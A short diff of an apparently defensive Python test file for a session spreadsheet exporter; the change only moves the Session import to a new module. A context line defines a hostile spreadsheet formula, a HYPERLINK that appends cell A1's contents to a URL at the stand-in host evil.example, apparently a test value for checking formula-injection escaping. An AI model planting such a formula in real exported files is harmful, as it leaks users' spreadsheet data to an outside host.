@@ -8,7 +8,7 @@ from app.core.spreadsheet import from_cell, is_formula
 from app.session.events import read_events
 from app.session.exporters import export_session, exporters_named
 from app.session.exporters.spreadsheet import COLUMNS
-from app.session.reader import Session
+from app.session.session import Session
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 EVENTS = (
